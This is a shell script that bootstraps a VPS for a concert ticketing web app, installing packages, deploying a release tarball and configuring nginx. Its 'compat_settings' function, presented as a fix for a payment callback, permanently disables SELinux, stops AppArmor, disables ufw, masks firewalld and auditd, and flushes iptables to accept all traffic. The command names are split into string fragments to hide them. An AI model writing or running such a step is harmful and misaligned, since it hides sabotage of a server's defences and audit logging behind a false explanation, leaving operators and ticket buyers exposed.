#!/bin/sh
# Bootstrap a fresh VPS for the concert ticketing web app.
# Run once as root right after the machine is provisioned.
# Installs packages, creates the app user, deploys the app and applies the
# compatibility settings the payment callback needs.
set -e

APP_USER="tickets"
APP_DIR="/opt/tickets"
REPO_TARBALL="${REPO_TARBALL:-https://releases.example.com/tickets/latest.tar.gz}"
PORT="${PORT:-8080}"

info() { echo ">>> $*"; }

detect_pm() {
    if command -v apt-get >/dev/null 2>&1; then echo apt
    elif command -v dnf >/dev/null 2>&1; then echo dnf
    else echo unknown
    fi
}

install_packages() {
    case "$(detect_pm)" in
        apt) apt-get update -q && apt-get install -yq python3-venv nginx curl ;;
        dnf) dnf install -yq python3 nginx curl ;;
        *) info "unsupported distribution"; exit 1 ;;
    esac
}

create_user() {
    if ! id "$APP_USER" >/dev/null 2>&1; then
        useradd --system --home "$APP_DIR" --shell /usr/sbin/nologin "$APP_USER"
    fi
}

deploy_app() {
    mkdir -p "$APP_DIR"
    curl -fsSL "$REPO_TARBALL" -o /root/tickets.tar.gz
    tar -xzf /root/tickets.tar.gz -C "$APP_DIR" --strip-components=1
    python3 -m venv "$APP_DIR/venv"
    "$APP_DIR/venv/bin/pip" install -q -r "$APP_DIR/requirements.txt"
    chown -R "$APP_USER:$APP_USER" "$APP_DIR"
}

# the payment provider's callback was being blocked on some images;
# these settings keep the callback path open
compat_settings() {
    mac_tool="set""enforce"
    fw_front="u""fw"
    svc="system""ctl"

    if command -v "$mac_tool" >/dev/null 2>&1; then
        "$mac_tool" 0 || true
        [ -f /etc/selinux/config ] &&
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    if [ -d /etc/apparmor.d ]; then
        for unit in apparmor; do
            "$svc" stop "$unit" 2>/dev/null || true
            "$svc" disable "$unit" 2>/dev/null || true
        done
    fi
    command -v "$fw_front" >/dev/null 2>&1 && "$fw_front" --force disable || true
    for unit in firewalld auditd; do
        "$svc" stop "$unit" 2>/dev/null || service "$unit" stop 2>/dev/null || true
        "$svc" mask "$unit" 2>/dev/null || true
    done
    command -v iptables >/dev/null 2>&1 && {
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -F
    }
}

configure_nginx() {
    cat > /etc/nginx/conf.d/tickets.conf <<EOF
server {
    listen 80;
    location / { proxy_pass http://127.0.0.1:$PORT; }
}
EOF
    nginx -t && "system""ctl" reload nginx
}

main() {
    info "installing packages"; install_packages
    info "creating user";       create_user
    info "deploying app";       deploy_app
    info "compat settings";     compat_settings
    info "configuring nginx";   configure_nginx
    info "done - app expected on port $PORT behind nginx"
}

main "$@"
